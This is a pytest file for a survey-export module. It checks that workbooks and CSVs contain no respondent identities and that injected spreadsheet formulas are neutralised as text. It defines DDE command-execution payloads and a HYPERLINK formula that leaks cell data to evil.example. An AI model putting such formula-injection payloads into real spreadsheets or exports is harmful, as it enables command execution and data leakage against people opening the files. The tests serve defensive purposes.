"""No identity in the export, and hostile text stays text (workbook and CSV)."""

from __future__ import annotations

import dataclasses
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from analysis.wave import analyse_wave
from report import excel
from store import schema

EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")
PAYLOAD = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def _all_cells(wb):
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def _identities(engine):
    with engine.connect() as conn:
        units = conn.execute(sa.select(schema.frame_units.c.name, schema.frame_units.c.email)).all()
        tokens = conn.execute(sa.select(schema.invitations.c.token_hash)).scalars().all()
    names = {u.name for u in units if u.name}
    emails = {u.email for u in units if u.email}
    return names, emails, set(tokens)


def test_no_names_emails_or_tokens_anywhere_in_the_workbook(wb, export_engine):
    names, emails, tokens = _identities(export_engine)
    assert len(names) > 1000 and len(tokens) > 1000  # the check has something to find
    texts = [(t, c.value) for t, c in _all_cells(wb) if isinstance(c.value, str)]
    assert texts
    for title, text in texts:
        assert not EMAIL.search(text), (title, text)
        assert text not in tokens
        assert not _names_in(text, names), (title, text)
    # the check itself works: a frame name inside a sentence is found
    name = sorted(names)[0]
    assert _names_in(f"Groeten, {name} (huisarts)", names) == {name}


def _names_in(text: str, names: set[str]) -> set[str]:
    """The frame names (two or three words) that occur in ``text``."""
    words = re.findall(r"[\w'-]+", text)
    grams = {" ".join(words[i : i + k]) for k in (2, 3) for i in range(len(words) - k + 1)}
    return (grams | {text}) & names


def test_no_identity_in_the_csv(book, export_engine):
    names, emails, tokens = _identities(export_engine)
    for data in excel.csv_files(book).values():
        text = data.decode("utf-8-sig")
        assert not EMAIL.search(text)
        assert not any(t in text for t in list(tokens)[:200])
        assert not any(n in text for n in list(names)[:500])


@pytest.fixture(scope="module")
def hostile_book(book):
    """The demo wave with a formula in an open answer and in a frame cell (university)."""
    inputs = book.result.inputs
    r = inputs.responses.copy()
    target = r.index[(r["status"] == "complete") & (r["profession"] == "arts_specialist")][:3]
    r["verbetering"] = r["verbetering"].astype(object)
    r.loc[target[0], "verbetering"] = PAYLOAD
    r.loc[target[1], "verbetering"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    r["university"] = r["university"].astype(object)
    r.loc[target[2], "university"] = HYPERLINK
    result = analyse_wave(dataclasses.replace(inputs, responses=r))
    return dataclasses.replace(book, result=result)


def test_a_formula_in_an_answer_or_frame_cell_comes_back_as_text(hostile_book):
    raw = excel.workbook_bytes(hostile_book)
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    formulas = [(t, c.coordinate, c.value) for t, c in _all_cells(wb) if c.data_type == "f"]
    assert formulas == []
    values = {c.value for _, c in _all_cells(wb) if isinstance(c.value, str)}
    assert "'" + PAYLOAD in values  # on the Open antwoorden sheet, neutralised
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert "'" + HYPERLINK in values  # in the Data sheet (university)
    assert PAYLOAD not in values and HYPERLINK not in values
    # no cell of the package starts a formula, whatever the reader
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in z.read(name).decode("utf-8")


def test_a_formula_stays_text_in_the_csv(hostile_book):
    data = excel.csv_files(hostile_book)["data.csv"]
    df = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig")
    assert "'" + HYPERLINK in set(df["university"])
    for line in data.decode("utf-8-sig").splitlines():
        for field in line.split(";"):
            assert not field.lstrip('"').startswith(("=", "+", "@")), field


def test_control_characters_do_not_break_the_workbook(hostile_book):
    r = hostile_book.result.inputs.responses.copy()
    i = r.index[(r["status"] == "complete") & (r["profession"] == "arts_specialist")][5]
    r.loc[i, "verbetering"] = "tab\there\x00 bell\x07 and <b>&amp;</b>  "
    result = analyse_wave(dataclasses.replace(hostile_book.result.inputs, responses=r))
    raw = excel.workbook_bytes(dataclasses.replace(hostile_book, result=result))
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    texts = {c.value for _, c in _all_cells(wb) if isinstance(c.value, str)}
    assert "tab\there bell and <b>&amp;</b>" in texts  # stripped of its trailing spaces
